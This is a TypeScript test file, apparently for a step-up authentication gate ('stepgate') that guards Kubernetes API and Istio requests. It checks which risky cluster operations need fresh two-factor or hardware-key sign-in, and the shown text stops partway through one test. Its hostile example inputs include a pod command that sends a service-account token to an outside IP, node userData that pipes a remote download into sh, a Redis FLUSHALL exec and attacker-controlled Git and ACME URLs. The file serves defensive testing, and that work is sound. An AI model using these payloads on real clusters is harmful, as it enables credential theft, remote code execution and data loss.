// Switching stepgate off: its own namespace (deploy/base: `stepgate`) and the mesh that calls it
// (istio/). One such write rewrites what every rule asks, for everyone; the attacker is malware on
// the engineer's laptop acting seconds after their two-factor sign-in, in a context they are known
// in, so only a hardware key stands in the way. Bodies are not sent (the request line decides).
describe('examples/stepgate.yaml: switching the gate off', () => {
  const ISTIO = '/apis/security.istio.io/v1/namespaces/istio-system/authorizationpolicies';
  const VS = '/apis/networking.istio.io/v1/namespaces/istio-system/virtualservices';
  it.each<[string, string, string, Record<string, string>?]>([
    ['its policy (a ConfigMap reloaded within seconds)', 'PATCH', '/api/v1/namespaces/stepgate/configmaps/stepgate-config-5h2k9tdb4m'],
    ['its policy replaced', 'PUT', '/api/v1/namespaces/stepgate/configmaps/stepgate-config-5h2k9tdb4m'],
    ['its Deployment (image, flags, environment)', 'PATCH', '/apis/apps/v1/namespaces/stepgate/deployments/stepgate'],
    ['its Deployment scaled', 'PATCH', '/apis/apps/v1/namespaces/stepgate/deployments/stepgate/scale'],
    ['its NetworkPolicy deleted', 'DELETE', '/apis/networking.k8s.io/v1/namespaces/stepgate/networkpolicies/stepgate'],
    ['its Secrets rewritten (cookie keys, Redis password)', 'PATCH', '/api/v1/namespaces/stepgate/secrets/stepgate-secrets'],
    ['its Secrets read (cookie keys, Redis password)', 'GET', '/api/v1/namespaces/stepgate/secrets/stepgate-secrets'],
    ['its Secrets watched by name', 'GET', '/api/v1/namespaces/stepgate/secrets?watch=true&fieldSelector=metadata.name%3Dstepgate-secrets'],
    ['its Secrets listed in its namespace (kubectl get secrets -n stepgate -o yaml)', 'GET', '/api/v1/namespaces/stepgate/secrets'],
    ['its Secrets watched in its namespace', 'GET', '/api/v1/namespaces/stepgate/secrets?watch=true&resourceVersion=0'],
    ['its Service repointed', 'PUT', '/api/v1/namespaces/stepgate/services/stepgate'],
    ['its Redis StatefulSet', 'PATCH', '/apis/apps/v1/namespaces/stepgate/statefulsets/stepgate-redis'],
    ['a Pod created beside it', 'POST', '/api/v1/namespaces/stepgate/pods'],
    ['a debug container in its pod', 'PATCH', '/api/v1/namespaces/stepgate/pods/stepgate-7d9f-abcde/ephemeralcontainers'],
    ['its namespace deleted', 'DELETE', '/api/v1/namespaces/stepgate'],
    ['a shell in its Redis (WebSocket)', 'GET', '/api/v1/namespaces/stepgate/pods/stepgate-redis-0/exec?command=redis-cli&command=FLUSHALL&stdin=true&stdout=true', UPGRADE_WS],
    ['a shell in its Redis (SPDY)', 'POST', '/api/v1/namespaces/stepgate/pods/stepgate-redis-0/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
    ['a port-forward to its Redis', 'GET', '/api/v1/namespaces/stepgate/pods/stepgate-redis-0/portforward?ports=6379', UPGRADE_WS],
    ['the service proxy to its admin port', 'POST', '/api/v1/namespaces/stepgate/services/stepgate:metrics/proxy/admin'],
    ['the CUSTOM policy deleted', 'DELETE', `${ISTIO}/stepgate-kube-api`],
    ['the CUSTOM policy narrowed', 'PATCH', `${ISTIO}/stepgate-kube-api`],
    ['the dashboards policy deleted (v1beta1)', 'DELETE', '/apis/security.istio.io/v1beta1/namespaces/istio-system/authorizationpolicies/stepgate-dashboards'],
    ['the kube route rewritten (/.stepgate/ is exempt)', 'PATCH', `${VS}/kube-apiserver`],
    ['a route added to the auth host (no CUSTOM policy there)', 'POST', VS],
    ['the Gateway opened to every namespace', 'PUT', '/apis/networking.istio.io/v1beta1/namespaces/istio-system/gateways/kube-apiserver'],
    ['the mesh config (extensionProviders, failOpen)', 'PATCH', '/api/v1/namespaces/istio-system/configmaps/istio'],
    ['TLS to the API server unverified', 'PATCH', '/apis/networking.istio.io/v1/namespaces/istio-system/destinationrules/kube-apiserver'],
    ['the gateway in istio-ingress', 'DELETE', '/apis/security.istio.io/v1/namespaces/istio-ingress/authorizationpolicies/stepgate'],
    ['a Gateway API route on the gateway', 'POST', '/apis/gateway.networking.k8s.io/v1/namespaces/istio-system/httproutes'],
    ['an EnvoyFilter in the root namespace', 'POST', '/apis/networking.istio.io/v1alpha3/namespaces/istio-system/envoyfilters'],
    ['an EnvoyFilter in an app namespace', 'POST', '/apis/networking.istio.io/v1alpha3/namespaces/shop/envoyfilters'],
    ['a WasmPlugin in an app namespace', 'PUT', '/apis/extensions.istio.io/v1alpha1/namespaces/shop/wasmplugins/authz'],
    ['an IstioOperator', 'PATCH', '/apis/install.istio.io/v1alpha1/namespaces/istio-system/istiooperators/installed-state'],
    // A rollout restart was a control here until session 33: the URL cannot tell it from `kubectl
    // set image` of istiod, which gives every proxy filters without ext_authz (gate-mesh-workloads).
    ["istiod's Deployment patched (a rollout restart, or a new image)", 'PATCH', '/apis/apps/v1/namespaces/istio-system/deployments/istiod', { 'content-type': 'application/strategic-merge-patch+json' }],
  ])('%s (%s %s) with two factors 5 seconds old is not allowed', async (_what, method, path, headers = {}) => {
    const contentType: Record<string, string> = method === 'PATCH' ? { 'content-type': 'application/merge-patch+json' } : method === 'GET' || method === 'DELETE' ? {} : { 'content-type': 'application/json' };
    const res = await freshSend('aal2', 0, method, path, { ...contentType, ...headers });
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toMatch(/gate-/);
  });

  // On-call reads stepgate and its logs in an incident; a drain evicts its pods; app teams own
  // their namespaces' Istio routes and policies (the Gateway binds routes from istio-system only).
  it.each<[string, 'aal1' | 'aal2', string, string, Record<string, string>?]>([
    ['its pods listed', 'aal1', 'GET', '/api/v1/namespaces/stepgate/pods'],
    ['its logs followed', 'aal1', 'GET', '/api/v1/namespaces/stepgate/pods/stepgate-7d9f-abcde/log?container=stepgate&follow=true'],
    ['its ConfigMap read', 'aal1', 'GET', '/api/v1/namespaces/stepgate/configmaps/stepgate-config-5h2k9tdb4m'],
    ['its pod evicted by a drain', 'aal1', 'POST', '/api/v1/namespaces/stepgate/pods/stepgate-7d9f-abcde/eviction', { 'content-type': 'application/json' }],
    ['the mesh config read', 'aal1', 'GET', '/api/v1/namespaces/istio-system/configmaps/istio'],
    ['the CUSTOM policies listed', 'aal1', 'GET', '/apis/security.istio.io/v1/namespaces/istio-system/authorizationpolicies'],
    ["an app team's VirtualService", 'aal1', 'PATCH', '/apis/networking.istio.io/v1/namespaces/shop/virtualservices/web', { 'content-type': 'application/merge-patch+json' }],
    ["an app team's AuthorizationPolicy", 'aal1', 'POST', '/apis/security.istio.io/v1/namespaces/shop/authorizationpolicies', { 'content-type': 'application/json' }],
    ["an app team's DestinationRule", 'aal1', 'PUT', '/apis/networking.istio.io/v1/namespaces/shop/destinationrules/web', { 'content-type': 'application/json' }],
  ])('controls: %s with a token 2 hours old is allowed', async (_what, level, method, path, headers = {}) => {
    expect(reasonOf(await freshSend(level, 2, method, path, headers))).toBe('allowed');
  });

  // A list has no name: `helm ls -A` (every namespace's release Secrets, stepgate's included) is
  // asked what the secrets rule and the working set ask, as for every namespace, not a hardware key.
  it('control: Secrets listed across the cluster match no gate rule', async () => {
    const res = await freshSend('aal2', 2, 'GET', '/api/v1/secrets?labelSelector=owner%3Dhelm', {});
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').not.toMatch(/gate-/);
    expect(reasonOf(res)).not.toBe('acr_insufficient');
  });
});

// A stolen everyday (one-factor) token: what evicts or stops what runs on the nodes.
// A static PersistentVolume reaches data that already exists: bound to a claim in dev, production's
// NFS export or disk is mounted by whoever runs a pod there.
describe('examples/stepgate.yaml: a PersistentVolume written by hand', () => {
  const pv = (source: Record<string, unknown>) => JSON.stringify({ apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: 'data' }, spec: { capacity: { storage: '100Gi' }, accessModes: ['ReadWriteMany'], ...source, claimRef: { namespace: 'dev', name: 'data' } } });
  it.each<[string, string, string, string, string]>([
    ["production's NFS export", 'POST', '/api/v1/persistentvolumes', 'application/json', pv({ nfs: { server: '10.40.0.5', path: '/exports/prod-orders' } })],
    ["an existing cloud disk by its volumeHandle", 'POST', '/api/v1/persistentvolumes', 'application/json', pv({ csi: { driver: 'ebs.csi.aws.com', volumeHandle: 'vol-0a1b2c3d4e5f60718' } })],
    ['a bound volume handed to another claim', 'PATCH', '/api/v1/persistentvolumes/pvc-3f9a', 'application/merge-patch+json', '{"spec":{"claimRef":{"namespace":"dev","name":"data","uid":null}}}'],
  ])('%s (%s %s) with one factor 10 hours old is not allowed', async (_what, method, path, contentType, body) => {
    const res = await freshSend('aal1', 10, method, path, { 'content-type': contentType }, body);
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('volume-writes');
    // The policy's, not a guardrail's: NFS and CSI sources are no node directory.
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').not.toContain('guardrail:');
  });

  it('control: the PersistentVolumes listed with one factor 10 hours old are allowed', async () => {
    expect(reasonOf(await freshSend('aal1', 10, 'GET', '/api/v1/persistentvolumes', {}))).toBe('allowed');
  });
});

describe('examples/stepgate.yaml: the nodes', () => {
  it.each<[string, string, string, Record<string, string>, string?]>([
    ['a NoExecute taint (evicts every pod that does not tolerate it)', 'PATCH', '/api/v1/nodes/pool-a-1', { 'content-type': 'application/strategic-merge-patch+json' }, '{"spec":{"taints":[{"key":"maintenance","effect":"NoExecute"}]}}'],
    ['a NoExecute taint by JSON patch', 'PATCH', '/api/v1/nodes/pool-a-1', { 'content-type': 'application/json-patch+json' }, '[{"op":"add","path":"/spec/taints","value":[{"key":"x","effect":"NoExecute"}]}]'],
    ['a cordon', 'PATCH', '/api/v1/nodes/pool-a-1', { 'content-type': 'application/strategic-merge-patch+json' }, '{"spec":{"unschedulable":true}}'],
    ['a Node replaced', 'PUT', '/api/v1/nodes/pool-a-1', { 'content-type': 'application/json' }, '{"apiVersion":"v1","kind":"Node","metadata":{"name":"pool-a-1"},"spec":{"taints":[{"key":"x","effect":"NoExecute"}]}}'],
    ['a Node reported NotReady (the node controller then taints it NoExecute)', 'PATCH', '/api/v1/nodes/pool-a-1/status', { 'content-type': 'application/strategic-merge-patch+json' }, '{"status":{"conditions":[{"type":"Ready","status":"False"}]}}'],
    ['a Node registered by hand', 'POST', '/api/v1/nodes', { 'content-type': 'application/json' }, '{"apiVersion":"v1","kind":"Node","metadata":{"name":"pool-z-1","labels":{"node-role.kubernetes.io/control-plane":""}}}'],
  ])('%s with a one-factor token is not allowed', async (_what, method, path, headers, body) => {
    const res = await freshSend('aal1', 1, method, path, headers, body);
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('node-changes');
  });

  // A NoExecute taint evicts every pod on the node that does not tolerate it, disruption budgets
  // ignored: `kubectl taint nodes --all …:NoExecute` from malware holding the morning's sign-in
  // was a node change (8 hours); it now asks what deleting the Node asks (node-deletes: 15 min).
  it('a NoExecute taint with two factors 2 hours old asks what the Node\'s delete asks; a cordon or a NoSchedule taint does not', async () => {
    const smp = { 'content-type': 'application/strategic-merge-patch+json' };
    const taint = await freshSend('aal2', 2, 'PATCH', '/api/v1/nodes/pool-a-1', smp, '{"spec":{"taints":[{"key":"maintenance","effect":"NoExecute"}]}}');
    expect(reasonOf(taint)).toBe('auth_too_old');
    expect(taint.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('node-deletes');
    expect(reasonOf(await freshSend('aal2', 2, 'PATCH', '/api/v1/nodes/pool-a-1', smp, '{"spec":{"unschedulable":true}}'))).toBe('allowed');
    expect(reasonOf(await freshSend('aal2', 2, 'PATCH', '/api/v1/nodes/pool-a-1', smp, '{"spec":{"taints":[{"key":"gpu","effect":"NoSchedule"}]}}'))).toBe('allowed');
    // Signed in within the 15 minutes: the maintenance it is.
    expect(reasonOf(await freshSend('aal2', 0.1, 'PATCH', '/api/v1/nodes/pool-a-1', smp, '{"spec":{"taints":[{"key":"maintenance","effect":"NoExecute"}]}}'))).toBe('allowed');
  });

  it('control: the nodes listed with a one-factor token are allowed', async () => {
    expect(reasonOf(await freshSend('aal1', 1, 'GET', '/api/v1/nodes', {}))).toBe('allowed');
  });
});

// A shell or tunnel into the pods that run the cluster is their service account and their network
// position (istiod's CA key, the gateway's Envoy admin, the ingress controller's Secrets, Argo CD's
// and Flux's cluster-admin controllers, kube-system's node agents). The attacker is malware on an
// engineer's laptop seconds after their two-factor sign-in, in a context they are known in.
describe("examples/stepgate.yaml: a shell or tunnel into the cluster's own pods", () => {
  const GW = '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t';
  it.each<[string, string, string, Record<string, string>?]>([
    ["a port-forward to the ingress gateway's Envoy admin (SPDY)", 'POST', `${GW}/portforward`, { ...UPGRADE_SPDY, 'x-stream-protocol-version': 'portforward.k8s.io' }],
    ["a port-forward to the ingress gateway's Envoy admin (WebSocket)", 'GET', `${GW}/portforward?ports=15000`, UPGRADE_WS],
    ["the gateway's Envoy admin through the pod proxy (debug logging)", 'POST', '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t:15000/proxy/logging?level=debug'],
    ["a shell in the gateway's istio-proxy container", 'POST', `${GW}/exec?command=curl&command=-XPOST&command=localhost%3A15000%2Fquitquitquit&container=istio-proxy&stdout=true`, UPGRADE_SPDY],
    ['a shell in istiod (the mesh CA key)', 'GET', '/api/v1/namespaces/istio-system/pods/istiod-7f6d9c8b4-hx2qv/exec?command=sh&stdin=true&stdout=true&tty=true', UPGRADE_WS],
    ["istiod's debug endpoints through the service proxy", 'GET', '/api/v1/namespaces/istio-system/services/https:istiod:15014/proxy/debug/configz'],
    ['a gateway in istio-ingress, attached to', 'POST', '/api/v1/namespaces/istio-ingress/pods/istio-ingress-6b9f7c5d4-q8w2e/attach?stdin=true&stdout=true&tty=true', UPGRADE_SPDY],
    ['a debug container in a kube-system agent', 'PATCH', '/api/v1/namespaces/kube-system/pods/kube-proxy-x7k2p/ephemeralcontainers', { 'content-type': 'application/strategic-merge-patch+json' }],
    ['a shell in a kube-system agent (the node\'s rights)', 'POST', '/api/v1/namespaces/kube-system/pods/cilium-4hz8q/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
    ['a shell in the ingress controller (it reads every Secret)', 'POST', '/api/v1/namespaces/ingress-nginx/pods/ingress-nginx-controller-5d88495688-tk2wq/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
    ['a shell in cert-manager (its issuers\' keys)', 'GET', '/api/v1/namespaces/cert-manager/pods/cert-manager-7d75f47cc5-r2b9m/exec?command=sh&stdin=true&stdout=true', UPGRADE_WS],
    ["a shell in Argo CD's application controller (cluster-admin)", 'POST', '/api/v1/namespaces/argocd/pods/argocd-application-controller-0/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
    ["a port-forward to Argo CD's repo server (manifest generation, no authentication)", 'GET', '/api/v1/namespaces/argocd/pods/argocd-repo-server-6c9b8d7f5-p4k2l/portforward?ports=8081', UPGRADE_WS],
    ["a shell in Flux's kustomize-controller", 'POST', '/api/v1/namespaces/flux-system/pods/kustomize-controller-6bc5d5b96-8xk4w/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
  ])('%s (%s %s) with two factors 5 seconds old is not allowed', async (_what, method, path, headers = {}) => {
    const res = await freshSend('aal2', 0, method, path, headers);
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('system-pod-access');
  });

  // A new workload there runs as the namespace's service accounts, which the example counts as
  // cluster-admin (impersonation_privileged_users): the token it mounts can be sent anywhere.
  const asController = (apiVersion: string, kind: string, ns: string, sa: string) =>
    JSON.stringify({ apiVersion, kind, metadata: { name: 'tuning', namespace: ns }, spec: { serviceAccountName: sa, containers: [{ name: 'c', image: 'curlimages/curl:8.11.1', command: ['sh', '-c', 'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.7/'] }] } });
  it.each<[string, string, string, Record<string, string>, string]>([
    ["a Pod as Argo CD's application controller (cluster-admin)", 'POST', '/api/v1/namespaces/argocd/pods', { 'content-type': 'application/json' }, asController('v1', 'Pod', 'argocd', 'argocd-application-controller')],
    ["a Pod as Flux's kustomize-controller, applied server-side", 'PATCH', '/api/v1/namespaces/flux-system/pods/tuning?fieldManager=kubectl', SSA, asController('v1', 'Pod', 'flux-system', 'kustomize-controller')],
    ['a Pod as cert-manager (every Secret)', 'POST', '/api/v1/namespaces/cert-manager/pods', { 'content-type': 'application/json' }, asController('v1', 'Pod', 'cert-manager', 'cert-manager')],
    ['a Pod as istiod (the mesh CA)', 'POST', '/api/v1/namespaces/istio-system/pods', { 'content-type': 'application/json' }, asController('v1', 'Pod', 'istio-system', 'istiod')],
    ['a Job in ingress-nginx as its controller', 'POST', '/apis/batch/v1/namespaces/ingress-nginx/jobs', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'tuning' }, spec: { template: { spec: { serviceAccountName: 'ingress-nginx', restartPolicy: 'Never', containers: [{ name: 'c', image: 'curlimages/curl:8.11.1' }] } } } })],
  ])('%s (%s %s) with two factors 5 seconds old is not allowed', async (_what, method, path, headers, body) => {
    const res = await freshSend('aal2', 0, method, path, headers, body);
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('system-workload-creates');
  });

  it('a TokenRequest with two factors 5 seconds old is not allowed (service-account-tokens)', async () => {
    const res = await freshSend('aal2', 0, 'POST', '/api/v1/namespaces/shop/serviceaccounts/web/token', { 'content-type': 'application/json' }, JSON.stringify({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', spec: { expirationSeconds: 86400 } }));
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('service-account-tokens');
  });

  // Reads and logs of the same pods, Prometheus and Grafana reached by port-forward, and a shell in
  // an app's pod stay what pod-shell and the defaults ask.
  it.each<[string, string, string, Record<string, string>?]>([
    ["the gateway's logs", 'GET', '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t/log?container=istio-proxy&follow=true'],
    ["kube-system's pods listed", 'GET', '/api/v1/namespaces/kube-system/pods'],
    ['a port-forward to Prometheus', 'GET', '/api/v1/namespaces/monitoring/pods/prometheus-k8s-0/portforward?ports=9090', UPGRADE_WS],
    ["a shell in an app's pod", 'POST', '/api/v1/namespaces/shop/pods/web-7d9f-abcde/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
    ["the gateway's HPA edited", 'PATCH', '/apis/autoscaling/v2/namespaces/istio-system/horizontalpodautoscalers/istio-ingressgateway?fieldManager=kubectl-edit', { 'content-type': 'application/merge-patch+json' }],
  ])('controls: %s with two factors 2 hours old is allowed', async (_what, method, path, headers = {}) => {
    expect(reasonOf(await freshSend('aal2', 2, method, path, headers))).toBe('allowed');
  });
});

describe("examples/stepgate.yaml: the cluster's own Secrets, and add-ons' cluster-wide objects", () => {
  const rulesOf = (res: Awaited<ReturnType<typeof freshSend>>) => res.dynamic_metadata?.fields.rules?.stringValue ?? '';
  // The keys of the cluster are Secrets in its own namespaces: reading one is what a shell into the
  // pod that holds it gives, so malware with an engineer's fresh two-factor token is refused.
  it.each<[string, string]>([
    ['the mesh CA', '/api/v1/namespaces/istio-system/secrets/istio-ca-secret'],
    ["the mesh's plugged-in CA", '/api/v1/namespaces/istio-system/secrets/cacerts?resourceVersion=0'],
    ["Argo CD's cluster credentials", '/api/v1/namespaces/argocd/secrets?labelSelector=argocd.argoproj.io%2Fsecret-type%3Dcluster'],
    ["cert-manager's CA issuer key", '/api/v1/namespaces/cert-manager/secrets/ca-key-pair'],
    ["Flux's Git credentials", '/api/v1/namespaces/flux-system/secrets/flux-system'],
    ['a bootstrap token', '/api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef'],
    ["istio-system's Secrets, watched", '/api/v1/namespaces/istio-system/secrets?watch=true'],
  ])('%s (GET %s) with two factors 5 seconds old is not allowed', async (_what, path) => {
    const res = await freshSend('aal2', 0, 'GET', path, {});
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(rulesOf(res)).toContain('system-secrets');
  });

  // A subject never seen before scores `elevated` here, so the hardware key is 5 seconds old.
  it('controls: the mesh CA with a hardware key 5 seconds old is allowed, an app Secret with two factors 2 hours old', async () => {
    expect(reasonOf(await freshSend('aal3', 0, 'GET', '/api/v1/namespaces/istio-system/secrets/istio-ca-secret', {}))).toBe('allowed');
    expect(reasonOf(await freshSend('aal2', 2, 'GET', '/api/v1/namespaces/shop/secrets/web-db', {}))).toBe('allowed');
    // The public sites' TLS keys are an app's Secrets: platform engineers read their expiry.
    expect(reasonOf(await freshSend('aal2', 2, 'GET', '/api/v1/namespaces/ingress-nginx/secrets/ingress-tls', {}))).toBe('allowed');
  });

  // `helm ls -A` and `istioctl analyze` list every Secret routinely: the secrets rule and the
  // cluster_secret_list signal ask for those, not a hardware key.
  it('control: a list of Secrets across all namespaces is not system-secrets', async () => {
    expect(rulesOf(await freshSend('aal2', 2, 'GET', '/api/v1/secrets?labelSelector=owner%3Dhelm', {}))).not.toContain('system-secrets');
  });

  // A write without a namespace to a kind kube does not serve cluster-wide is about a
  // cluster-scoped object: it is asked for as cluster control, not as every namespace (stepgate's
  // own among them), and the step-up names the right rule.
  const JSON_CT = { 'content-type': 'application/json' };
  const MERGE_CT = { 'content-type': 'application/merge-patch+json' };
  it.each<[string, string, string, Record<string, string>, string?]>([
    ['a ClusterIssuer pointed at another CA', 'POST', '/apis/cert-manager.io/v1/clusterissuers', JSON_CT, JSON.stringify({ apiVersion: 'cert-manager.io/v1', kind: 'ClusterIssuer', metadata: { name: 'corp' }, spec: { ca: { secretName: 'attacker-ca' } } })],
    ['a ClusterIssuer patched', 'PATCH', '/apis/cert-manager.io/v1/clusterissuers/letsencrypt-prod', MERGE_CT, '{"spec":{"acme":{"server":"https://acme.attacker.example/directory"}}}'],
    ['a Kyverno ClusterPolicy that mutates every Pod', 'POST', '/apis/kyverno.io/v1/clusterpolicies', JSON_CT, JSON.stringify({ apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', metadata: { name: 'add-sidecar' }, spec: { rules: [] } })],
    ['a Karpenter NodePool', 'PATCH', '/apis/karpenter.sh/v1/nodepools/default', MERGE_CT, '{"spec":{"template":{"spec":{"taints":[]}}}}'],
    ['a Karpenter node class with userData', 'PATCH', '/apis/karpenter.k8s.aws/v1/ec2nodeclasses/default', MERGE_CT, '{"spec":{"userData":"#!/bin/sh\\ncurl https://203.0.113.7/x | sh"}}'],
    ['an External Secrets ClusterSecretStore', 'POST', '/apis/external-secrets.io/v1beta1/clustersecretstores', JSON_CT, '{}'],
    ['a Cilium cluster-wide network policy deleted', 'DELETE', '/apis/cilium.io/v2/ciliumclusterwidenetworkpolicies/default-deny', {}],
    ['a GatewayClass', 'POST', '/apis/gateway.networking.k8s.io/v1/gatewayclasses', JSON_CT, '{}'],
  ])('%s (%s %s) with two factors 5 seconds old is not allowed, by cluster-add-on-objects', async (_what, method, path, headers, body) => {
    const res = await freshSend('aal2', 0, method, path, headers, body);
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(rulesOf(res)).toContain('cluster-add-on-objects');
    expect(rulesOf(res)).not.toMatch(/gate-|prod-|system-/);
  });

  it.each<[string, string, string, Record<string, string>, string?]>([
    ['a ClusterIssuer patched', 'PATCH', '/apis/cert-manager.io/v1/clusterissuers/letsencrypt-prod', MERGE_CT, '{"spec":{"acme":{"email":"ops@example.com"}}}'],
    ['a Karpenter NodePool patched', 'PATCH', '/apis/karpenter.sh/v1/nodepools/default', MERGE_CT, '{"spec":{"limits":{"cpu":"2000"}}}'],
  ])('controls: %s with a hardware key 5 seconds old is allowed', async (_what, method, path, headers, body) => {
    expect(reasonOf(await freshSend('aal3', 0, method, path, headers, body))).toBe('allowed');
  });

  // Namespaced custom resources stay with their namespace's rules; reading cluster-wide objects
  // and listing a namespaced kind across namespaces are not writes.
  it.each<[string, string, string, Record<string, string>, string?]>([
    ['a Certificate in dev', 'POST', '/apis/cert-manager.io/v1/namespaces/dev/certificates', JSON_CT, '{}'],
    ['the ClusterIssuers listed', 'GET', '/apis/cert-manager.io/v1/clusterissuers', {}],
    ['every Certificate listed across namespaces', 'GET', '/apis/cert-manager.io/v1/certificates?limit=500', {}],
    ['a namespace created', 'POST', '/api/v1/namespaces', JSON_CT, '{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"pr-1234"}}'],
  ])('controls: %s with one factor 10 hours old is allowed', async (_what, method, path, headers, body) => {
    expect(reasonOf(await freshSend('aal1', 10, method, path, headers, body))).toBe('allowed');
  });
});

// GitOps objects written through the API server ask what the same change asks in Argo CD
// (argocd-app-changes, argocd-admin): the token here has two factors, 2 hours old.
describe('examples/stepgate.yaml: Argo CD and Flux objects through the API server', () => {
  const APP = '/apis/argoproj.io/v1alpha1/namespaces/argocd/applications';
  const KS = '/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/flux-system/kustomizations';
  const GIT = '/apis/source.toolkit.fluxcd.io/v1/namespaces/flux-system/gitrepositories';
  const MERGE_PATCH = { 'content-type': 'application/merge-patch+json' };
  it.each<[string, string, string, Record<string, string>, string]>([
    ['an Application created (deployed with Argo CD\'s rights)', 'POST', APP, { 'content-type': 'application/json' }, 'auth_too_old'],
    ['an Application repointed', 'PATCH', `${APP}/shop`, MERGE_PATCH, 'auth_too_old'],
    ['an Application deleted (and what it manages)', 'DELETE', `${APP}/shop`, {}, 'auth_too_old'],
    ['an Application in a team namespace', 'POST', '/apis/argoproj.io/v1alpha1/namespaces/shop/applications', { 'content-type': 'application/json' }, 'auth_too_old'],
    ['an ApplicationSet', 'PUT', '/apis/argoproj.io/v1alpha1/namespaces/argocd/applicationsets/all', { 'content-type': 'application/json' }, 'auth_too_old'],
    ['the default AppProject opened', 'PATCH', '/apis/argoproj.io/v1alpha1/namespaces/argocd/appprojects/default', MERGE_PATCH, 'acr_insufficient'],
    ['a cluster credential Secret', 'POST', '/api/v1/namespaces/argocd/secrets', { 'content-type': 'application/json' }, 'acr_insufficient'],
    ['the server key and admin password', 'PATCH', '/api/v1/namespaces/argocd/secrets/argocd-secret', MERGE_PATCH, 'acr_insufficient'],
    ['its RBAC policy', 'PATCH', '/api/v1/namespaces/argocd/configmaps/argocd-rbac-cm', MERGE_PATCH, 'acr_insufficient'],
    ['a config management plugin', 'PATCH', '/api/v1/namespaces/argocd/configmaps/argocd-cm', MERGE_PATCH, 'acr_insufficient'],
    ['a Flux Kustomization created', 'POST', KS, { 'content-type': 'application/json' }, 'auth_too_old'],
    ['a Flux source by flux create (server-side apply)', 'PATCH', `${GIT}/evil?fieldManager=flux`, { 'content-type': 'application/apply-patch+yaml' }, 'auth_too_old'],
    ['a Flux HelmRelease replaced', 'PUT', '/apis/helm.toolkit.fluxcd.io/v2/namespaces/shop/helmreleases/web', { 'content-type': 'application/json' }, 'auth_too_old'],
    ['a Flux source deleted', 'DELETE', `${GIT}/shop`, {}, 'auth_too_old'],
  ])('%s (%s %s) is not allowed', async (_what, method, path, headers, reason) => {
    expect(reasonOf(await freshSend('aal2', 2, method, path, headers))).toBe(reason);
  });

  // A patch says what it changes only in its body (guardrail gitops_source_change, elevated).
  it.each<[string, string, string, string]>([
    ['a GitRepository repointed (merge patch)', `${GIT}/shop`, 'application/merge-patch+json', '{"spec":{"url":"https://git.example.net/evil/shop.git","ref":{"branch":"main"}}}'],
    ['a GitRepository repointed (JSON patch)', `${GIT}/shop`, 'application/json-patch+json', '[{"op":"replace","path":"/spec/url","value":"https://git.example.net/evil/shop.git"}]'],
    ["a Kustomization's path and service account", `${KS}/shop`, 'application/merge-patch+json', '{"spec":{"path":"./evil","serviceAccountName":null}}'],
    ["a HelmRelease's values", '/apis/helm.toolkit.fluxcd.io/v2/namespaces/shop/helmreleases/web', 'application/merge-patch+json', '{"spec":{"values":{"image":{"repository":"evil.example.net/web"}}}}'],
    ['a suspend hiding a repoint', `${GIT}/shop`, 'application/merge-patch+json', '{"spec":{"suspend":false,"url":"https://git.example.net/evil/shop.git"}}'],
  ])('%s is not allowed', async (_what, path, contentType, body) => {
    const res = await freshSend('aal2', 2, 'PATCH', path, { 'content-type': contentType }, body);
    expect(reasonOf(res)).toBe('auth_too_old');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('guardrail:gitops_source_change');
  });

  it.each<[string, string, string, Record<string, string>, string?]>([
    ['Applications listed', 'GET', APP, {}],
    ['flux reconcile (an annotation)', 'PATCH', `${KS}/shop`, MERGE_PATCH, '{"metadata":{"annotations":{"reconcile.fluxcd.io/requestedAt":"2026-12-03T10:00:00Z"}}}'],
    ['flux reconcile --with-source', 'PATCH', `${GIT}/shop`, MERGE_PATCH, '{"metadata":{"annotations":{"reconcile.fluxcd.io/requestedAt":"2026-12-03T10:00:00Z"}}}'],
    ['flux reconcile hr --force (JSON patch)', 'PATCH', '/apis/helm.toolkit.fluxcd.io/v2/namespaces/shop/helmreleases/web', { 'content-type': 'application/json-patch+json' }, '[{"op":"add","path":"/metadata/annotations/reconcile.fluxcd.io~1forceAt","value":"x"}]'],
    ['flux suspend', 'PATCH', `${KS}/shop`, MERGE_PATCH, '{"spec":{"suspend":true}}'],
    ['flux resume (the field removed)', 'PATCH', `${KS}/shop`, { 'content-type': 'application/json-patch+json' }, '[{"op":"remove","path":"/spec/suspend"}]'],
    ['Argo CD\'s ConfigMaps read', 'GET', '/api/v1/namespaces/argocd/configmaps/argocd-cm', {}],
  ])('controls: %s with two factors 2 hours old is allowed', async (_what, method, path, headers, body) => {
